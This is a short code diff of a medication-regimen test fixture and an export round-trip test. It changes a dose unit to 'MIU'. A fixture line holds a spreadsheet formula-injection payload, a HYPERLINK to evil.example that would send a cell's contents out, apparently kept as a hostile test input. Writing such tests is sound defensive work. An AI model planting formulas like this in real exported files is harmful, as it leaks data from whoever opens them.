@@ -109,7 +109,7 @@ regimens = ["x", "y"]
 [[regimens]]
 id = "x"
 drug = "Interleukin-2 ×10⁶"
-dose = { amount = 1, unit = "×10⁶ IU" }
+dose = { amount = 1, unit = "MIU" }   # a unit must be a known one (dosing/units.py)
 route = "subcutaneous"
 times = ["09:00"]
 instructions = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for instructions")'
@@ -176,7 +176,7 @@ def test_non_ascii_round_trips(outputs: Path, name: str) -> None:
     table = read(outputs / name)
     assert (outputs / name).read_bytes().startswith(b"\xef\xbb\xbf")
     assert {"Interleukin-2 ×10⁶", "维生素 B12"} == set(table["drug"])
-    assert {"×10⁶ IU", "µg"} == set(table["unit"])
+    assert {"MIU", "µg"} == set(table["unit"])
     assert "饭后服用 (after meals)" in set(table["instructions"])
     if name == "worklist.csv":
         assert "北京大学人民医院" in set(table["site"])
